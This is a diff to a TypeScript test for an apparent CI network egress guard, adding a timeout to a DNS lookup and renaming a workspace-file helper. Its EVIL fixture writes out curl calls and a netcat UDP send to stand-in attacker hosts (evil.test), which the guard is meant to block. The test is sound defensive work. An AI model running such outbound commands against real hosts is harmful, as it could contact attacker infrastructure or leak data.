@@ -4,7 +4,7 @@ import { asked, type Job, type JobResult, reached, startJob, WORLD } from '../ru
 import { guardOf, pidsOf, proxyOf, statusOf, traces } from './guard-lab.ts';
 
 const EVIL = `set +e
-curl -sSk --max-time 2 https://${WORLD.evil}/x; curl -sS --max-time 2 https://evil.test/x; echo x | timeout 1 nc -u -w1 ${WORLD.evil} 9999; getent ahosts x.evil.test`;
+curl -sSk --max-time 2 https://${WORLD.evil}/x; curl -sS --max-time 2 https://evil.test/x; echo x | timeout 1 nc -u -w1 ${WORLD.evil} 9999; timeout 2 getent ahosts x.evil.test`;
 const ALLOWED = 'curl -sS --max-time 30 --retry 3 --retry-all-errors https://ok.test/still';
 
 const pause = (ms: number): Promise<void> => new Promise((done) => setTimeout(done, ms));
@@ -171,7 +171,7 @@ describe('an orphan that waits for the end of the job', () => {
     const job = await startJob({ action: { with: { policy: 'ok.test' } }, steps: [{ name: 'orphan', run: ORPHAN }] });
     try {
       await job.completed();
-      const orphan = Number(await job.workspaceFile('orphan-lives'));
+      const orphan = Number(await job.workspaceText('orphan-lives'));
       await pause(2500);
       expect(existsSync(`/proc/${orphan}`)).toBe(true);
       expect(guardOf(job.machine)).toHaveLength(1);
